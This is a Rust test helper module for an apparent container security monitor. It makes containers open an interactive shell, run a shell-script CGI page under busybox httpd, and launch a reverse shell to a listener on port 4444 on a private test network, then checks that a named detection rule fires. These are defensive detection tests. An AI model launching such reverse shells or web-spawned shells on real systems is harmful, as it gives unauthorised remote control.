//! The form of most tests: a container does something, an alert of a known name follows.

use std::process::Command;

use crate::container::Container;
use crate::daemon::Daemon;
use crate::image;
use crate::network::Network;

/// Executes a command in a container started with these options, and waits for the rule's alert about it.
///
/// Rules that go by a program's name need the program as the command itself: busybox's shell runs other applets by
/// executing `/proc/self/exe`, whose name is `exe` until busybox changes it.
pub fn drill(daemon: Option<&Daemon>, rule: &str, options: &[&str], command: &[&str]) {
    let Some(daemon) = daemon else { return };
    let container = Container::idle(image::base(), options);
    container.exec(command);
    daemon.alert(rule, &container.name);
}

/// `docker exec -it`, on a terminal that `script` makes.
pub fn terminal_shell(daemon: Option<&Daemon>, rule: &str) {
    let Some(daemon) = daemon else { return };
    let container = Container::idle(image::base(), &[]);
    let command = format!("docker exec -it {} sh -c 'sleep 0.1'", container.name);
    let done = Command::new("script").args(["-qec", &command, "/dev/null"]).output().expect("script is there");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stdout));
    daemon.alert(rule, &container.name);
}

/// busybox httpd runs a page that is a shell script.
pub fn shell_below_web_server(daemon: Option<&Daemon>, rule: &str) {
    let Some(daemon) = daemon else { return };
    let server = Container::start(image::base(), &[], &["httpd", "-f", "-p", "80", "-h", "/www"]);
    let ask = "until wget -q -O- http://127.0.0.1/cgi-bin/page.sh; do sleep 0.1; done";
    let page = server.exec(&["timeout", "10", "sh", "-c", ask]);
    assert!(String::from_utf8_lossy(&page.stdout).contains("uid="), "the page did not run");
    daemon.alert(rule, &server.name);
}

/// The classic reverse shell: connect, dup2, exec.
pub fn reverse_shell(daemon: Option<&Daemon>, rule: &str) {
    let Some(daemon) = daemon else { return };
    let network = Network::private();
    let listener = network.listener("4444");
    let victim = Container::idle(image::base(), &["--network", &network.name]);
    victim.exec(&["/usr/local/bin/drills", "redirect", &listener.address(), "4444"]);
    daemon.alert(rule, &victim.name);
}

/// One test per row: name, rule, options of `docker run`, the command in the container.
macro_rules! drills {
    ($daemon:path; $($(#[$note:meta])* $name:ident: $rule:literal, [$($option:literal),*], [$($word:literal),*];)*) => {$(
        $(#[$note])*
        #[test]
        fn $name() {
            crate::drill::drill($daemon(), $rule, &[$($option),*], &[$($word),*]);
        }
    )*};
}
pub(crate) use drills;
